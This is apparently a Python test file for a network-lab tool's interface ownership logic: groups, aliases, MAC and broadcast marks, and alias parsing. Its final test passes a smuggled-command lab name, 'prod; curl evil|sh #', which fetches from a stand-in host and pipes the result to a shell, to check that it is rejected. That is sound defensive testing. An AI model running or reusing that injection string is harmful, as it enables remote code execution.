"""Whose interface is it?"""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kokofast.plan.observed import Interface, Namespace
from kokofast.plan.ownership import (
    BROADCAST,
    GROUP_PREFIX,
    MAX_ALIAS,
    alias_of,
    ends_of_alias,
    group_of,
    is_our_group,
    lab_of,
    lab_of_alias,
    lab_of_namespace,
    namespace_alias,
)
from kokofast.topology.model import End, Link
from tests.plan.builders import BOOT, LAB, end, identity_of, mark_of, veth

HERE = Namespace(identity_of(0))
GROUP = group_of(LAB)
MARK = mark_of(0, 7)
OLD_MARK = bytes.fromhex("97d3875595ae")
ALIAS = f"kokofast:{LAB}:r1:eth1--r2:eth1"


@pytest.mark.parametrize(
    ("group", "alias", "mark", "lab", "owner"),
    [
        # With its alias, whatever the broadcast address is by now.
        (GROUP, ALIAS, BROADCAST, LAB, LAB),
        (GROUP, ALIAS, BROADCAST, None, LAB),
        (GROUP, ALIAS, BROADCAST, "other", LAB),
        (GROUP, ALIAS, MARK, LAB, LAB),
        # Just made: the mark only.
        (GROUP, "", MARK, LAB, LAB),
        (GROUP, "", MARK, None, ""),
        (GROUP, "", MARK, "other", ""),
        # The group alone proves nothing.
        (GROUP, "", BROADCAST, LAB, None),
        (GROUP, "", bytes((MARK[0] ^ 4,)) + MARK[1:], LAB, None),
        (GROUP, "uplink of the office", MARK, LAB, None),
        (GROUP, "uplink of the office", BROADCAST, LAB, None),
        # Nor does the alias alone, or the mark alone: both can be copied.
        (0, ALIAS, BROADCAST, LAB, None),
        (0, "", MARK, LAB, None),
        (42, ALIAS, MARK, LAB, None),
        # An alias of another lab under this lab's group.
        (GROUP, "kokofast:other:r1:eth1--r2:eth1", BROADCAST, LAB, None),
        (group_of("other"), "kokofast:other:r1:eth1--r2:eth1", BROADCAST, LAB, "other"),
        (group_of("other"), ALIAS, BROADCAST, LAB, None),
        # Aliases that only look like ours.
        (GROUP, "kokofast:", MARK, LAB, None),
        (GROUP, f"kokofast:{LAB}", MARK, LAB, None),
        (GROUP, "kokofast::r1:eth1--r2:eth1", MARK, LAB, None),
        (GROUP, f"Kokofast:{LAB}:x", MARK, LAB, None),
    ],
)
def test_the_lab_of_an_interface(group: int, alias: str, mark: bytes, lab: str | None, owner: str | None) -> None:
    by_broadcast = Interface(7, "eth1", group=group, alias=alias, broadcast=mark, mac=b"\x02\0\0\0\0\x01")
    by_mac = Interface(7, "eth1", group=group, alias=alias, broadcast=BROADCAST, mac=mark)
    assert lab_of(by_broadcast, HERE, BOOT, lab) == owner
    assert lab_of(by_mac, HERE, BOOT, lab) == owner


@pytest.mark.parametrize("mark", ["broadcast", "mac"])
@pytest.mark.parametrize("change", ["ifindex", "namespace", "boot", "group"])
def test_the_mark_holds_in_one_place_only(change: str, mark: str) -> None:
    group = group_of("other") if change == "group" else GROUP
    seen = Interface(8 if change == "ifindex" else 7, "eth1", group=group)
    setattr(seen, mark, MARK)
    here = Namespace(identity_of(1)) if change == "namespace" else HERE
    assert lab_of(seen, here, "another boot" if change == "boot" else BOOT, LAB) is None


@pytest.mark.parametrize("bit", range(48))
def test_each_bit_of_the_mark_counts(bit: int) -> None:
    mark = (int.from_bytes(MARK, "big") ^ 1 << bit).to_bytes(6, "big")
    seen = Interface(7, "eth1", group=GROUP, broadcast=mark)
    # The last two bytes tell which lab's it is, of those of one group.
    assert lab_of(seen, HERE, BOOT, LAB) == ("" if bit < 16 else None)


@pytest.mark.parametrize("place", ["broadcast", "mac"])
def test_two_labs_of_one_group_are_told_apart_before_they_have_aliases(place: str) -> None:
    first, second = "delta-core-spine", "fabric-green-west"
    assert group_of(first) == group_of(second)
    seen = Interface(7, "eth1", group=group_of(first))
    setattr(seen, place, mark_of(0, 7, first))
    assert lab_of(seen, HERE, BOOT, first) == first
    assert lab_of(seen, HERE, BOOT, second) == ""
    assert lab_of(seen, HERE, BOOT) == ""


@pytest.mark.parametrize("place", ["broadcast", "mac"])
def test_the_mark_of_earlier_versions_is_known(place: str) -> None:
    """It is in the kernel of who had one killed: for BOOT, the namespace 0, this group and the index 7."""
    old = {"broadcast": OLD_MARK, "mac": bytes((OLD_MARK[0] & 0xFC | 2,)) + OLD_MARK[1:]}
    seen = Interface(7, "eth1", group=GROUP)
    setattr(seen, place, old[place])
    assert lab_of(seen, HERE, BOOT, LAB) == LAB
    assert lab_of(seen, HERE, BOOT) == ""
    setattr(seen, place, old[place][:5] + bytes((old[place][5] ^ 1,)))
    assert lab_of(seen, HERE, BOOT, LAB) is None


def test_no_two_interfaces_get_one_address() -> None:
    marks = {mark_of(ns, index, salt=index * 37 % 256) for ns in range(20) for index in range(2, 52)}
    assert len(marks) == 1000
    # IEEE 802: bit 0 of the first byte is for groups of receivers, bit 1 says that no manufacturer gave the address.
    assert all(len(mark) == 6 and mark[0] & 0b11 == 0b10 for mark in marks)
    # A namespace that is made again may have the same number, and the clone of a machine has all of them.
    assert len({mark_of(0, 7, salt=salt) for salt in range(256)}) == 64


@given(st.text(max_size=70))
def test_a_group_is_recognised_and_fits(lab: str) -> None:
    group = group_of(lab)
    assert group >> 24 == GROUP_PREFIX
    assert is_our_group(group)
    assert 0 < group < 1 << 31  # IFLA_GROUP is a u32, but tools read it as an int


@pytest.mark.parametrize("group", [0, 1, 42, 0xFFFFFF, 0x4A << 24, 0x4C << 24, (1 << 32) - 1, 1 << 31])
def test_the_groups_of_others(group: int) -> None:
    assert not is_our_group(group)


def test_a_group_does_not_change_from_one_release_to_the_next() -> None:
    # It is in the kernel of our users: gzip says that the CRC-32 of "lab" is 61d6b1c4.
    assert group_of("lab") == 0x4BD6B1C4


def test_an_alias_names_both_ends() -> None:
    assert alias_of(LAB, veth("r1:eth1", "r2:eth1")) == ALIAS
    assert lab_of_alias(ALIAS) == LAB
    assert alias_of(LAB, veth("r2:eth1", "r1:eth1")) != ALIAS


def test_an_alias_that_would_be_too_long_is_a_digest() -> None:
    def alias(length: int) -> str:
        fixed = len(f"kokofast:{LAB}:") + len(":eth1--r2:eth1")
        return alias_of(LAB, veth("n" * (length - fixed) + ":eth1", "r2:eth1"))

    longest = alias(MAX_ALIAS)
    assert len(longest) == MAX_ALIAS
    assert longest.endswith(":eth1--r2:eth1")
    digests = {alias(MAX_ALIAS + more) for more in range(1, 20)}
    assert len(digests) == 19
    for text in digests:
        assert text.startswith(f"kokofast:{LAB}:#")
        assert len(text) == len(f"kokofast:{LAB}:#") + 32
        assert lab_of_alias(text) == LAB


@given(st.text(min_size=1, max_size=200), st.text(min_size=1, max_size=200))
def test_an_alias_always_fits_and_names_its_lab(first: str, second: str) -> None:
    text = alias_of(LAB, Link("veth", (End(first, "eth0"), End(second, "eth0"))))
    assert len(text.encode()) <= MAX_ALIAS
    assert text.isprintable()
    assert lab_of_alias(text) == LAB


def test_characters_count_as_bytes() -> None:
    assert "#" in alias_of(LAB, veth("ä" * 120 + ":eth1", "r2:eth1"))
    assert "#" in alias_of(LAB, Link("veth", (end("r\n1:eth1"), end("r2:eth1"))))
    assert "#" in alias_of(LAB, Link("veth", (End("r1", "e\udcff"), end("r2:eth1"))))


@pytest.mark.parametrize(
    ("alias", "lab"),
    [
        (namespace_alias(LAB), LAB),
        (namespace_alias("a.b-c_d"), "a.b-c_d"),
        (ALIAS, None),
        ("", None),
        (f"kokofast:{LAB}:namespaces", None),
        (f"kokofast:{LAB}:namespace:", None),
        ("kokofast::namespace", None),
        ("kokofast:namespace", None),
        (f"x{namespace_alias(LAB)}", None),
    ],
)
def test_the_lab_of_a_namespace(alias: str, lab: str | None) -> None:
    assert lab_of_namespace(Namespace((4, 1), loopback_alias=alias)) == lab


def test_no_link_has_the_alias_of_a_namespace() -> None:
    assert lab_of_namespace(Namespace((4, 1), loopback_alias=alias_of(LAB, veth("namespace:a", "b:c")))) is None


@pytest.mark.parametrize(
    ("title", "ends", "ways"),
    [
        ("r1:eth1--r2:eth0", 2, [(("r1", "eth1"), ("r2", "eth0"))]),
        ("a--b:e0--c:e1", 2, [(("a--b", "e0"), ("c", "e1"))]),
        ("a:e0--b:e1--c:e2", 2, [(("a", "e0"), ("b:e1--c", "e2")), (("a:e0--b", "e1"), ("c", "e2"))]),
        ("docker:web:e0--/run/x:e1", 2, [(("docker:web", "e0"), ("/run/x", "e1"))]),
        ("r1:mv0", 1, [(("r1", "mv0"),)]),
        ("a--b:mv0", 1, [(("a--b", "mv0"),)]),
        ("r1:eth1", 2, []),
        ("#0123456789abcdef", 1, []),
        ("#0123456789abcdef", 2, []),
        ("", 2, []),
        ("----", 2, []),
    ],
)
def test_the_ends_that_an_alias_names(title: str, ends: int, ways: object) -> None:
    assert ends_of_alias(f"kokofast:{LAB}:{title}", ends) == ways


@pytest.mark.parametrize("lab", ["prod; curl evil|sh #", "../x", "a b", "", "x" * 65])
def test_an_alias_that_names_what_cannot_be_a_lab_is_a_strangers(lab: str) -> None:
    assert lab_of_alias(f"kokofast:{lab}:a:e0--b:e0") is None
